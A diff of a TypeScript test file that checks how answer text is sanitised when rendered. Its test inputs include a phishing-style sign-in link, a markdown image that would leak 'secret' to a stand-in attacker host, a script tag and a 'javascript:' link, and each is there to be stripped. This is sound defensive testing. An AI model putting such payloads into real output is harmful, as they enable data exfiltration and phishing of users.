@@ -15,18 +15,29 @@ const names = new Map([
   [8, 'Shipyard'],
 ])
 
+const whole = (text: string) => readAnswer({ text, isWhole: true })
+
+it('an answer that is not whole has no links, and shows their addresses', () => {
+  const text =
+    '[Sign in again](https://evil.example/a), www.evil.example or [here](/projects/7/12)\n\n```mermaid\nclick A "https://evil.example"\n```'
+  const { nodes } = readAnswer({ text, isWhole: false })
+  expect(toMarkdown({ type: 'doc', content: [...nodes] }).trim()).toBe(
+    'Sign in again (`https://evil.example/a`), `http://www.evil.example` or here\n\n```text\nclick A "https://evil.example"\n```',
+  )
+})
+
 it('nothing in an answer is fetched from elsewhere', () => {
-  const { nodes } = readAnswer(
+  const { nodes } = whole(
     'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
   )
   expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
 })
 
 it('a question is the title of its answer, whose headings stand below it', () => {
-  const because = readAnswer('## Because\n\nSee [there](/projects/7/12#start).')
+  const because = whole('## Because\n\nSee [there](/projects/7/12#start).')
   const composed = [
     composeAnswer(exchange('a', 'Why?'), because, names),
-    composeAnswer(exchange('b', 'How?', [7, 8], 'stopped'), readAnswer('So'), names),
+    composeAnswer(exchange('b', 'How?', [7, 8], 'stopped'), whole('So'), names),
     composeAnswer(exchange('c', 'When?', [7, 9], 'loading'), undefined, names),
   ]
   expect(composed.map((doc) => toMarkdown(doc).trim())).toEqual([
@@ -38,7 +49,7 @@ it('a question is the title of its answer, whose headings stand below it', () =>
 })
 
 it('as blocks for a page it leads to pages beside that one by their ids, and to others by their addresses', () => {
-  const read = readAnswer('See [here](/projects/7/12#start) and\n\n- [there](/projects/8/30#end)')
+  const read = whole('See [here](/projects/7/12#start) and\n\n- [there](/projects/8/30#end)')
   const blocks = blocksFor(exchange('a', 'Why?', [7, 8]), read, 7, 'https://docs.example.org')
   expect(toMarkdown({ type: 'doc', content: blocks }).trim()).toBe(
     '## Why?\n\nSee [here](page:12#start) and\n\n- [there](https://docs.example.org/projects/8/30#end)',
@@ -46,7 +57,7 @@ it('as blocks for a page it leads to pages beside that one by their ids, and to 
 })
 
 it('images go along only where everybody who reads the page may see them', () => {
-  const read = readAnswer(`Look:\n\n![The pier](/api/blob/${'a'.repeat(64)})`)
+  const read = whole(`Look:\n\n![The pier](/api/blob/${'a'.repeat(64)})`)
   const types = (projectIds: number[]) =>
     blocksFor(exchange('a', 'Where?', projectIds), read, 7, 'https://docs.example.org').map(({ type }) => type)
   expect(types([7])).toEqual(['heading', 'paragraph', 'image'])
@@ -54,7 +65,7 @@ it('images go along only where everybody who reads the page may see them', () =>
 })
 
 it('what a question or an answer says is never more than words and safe links', () => {
-  const read = readAnswer('<script>1</script>\n\n[x](javascript:1) [y](/login) [z](//a.org)')
+  const read = whole('<script>1</script>\n\n[x](javascript:1) [y](/login) [z](//a.org)')
   const doc = composeAnswer(exchange('a', '<script>1</script>'.repeat(9_000)), read, names)
   const links = [...JSON.stringify(doc).matchAll(/"href":"([^"]*)"/g)].map(([, href]) => href)
   expect(links).toEqual(['https://a.org'])
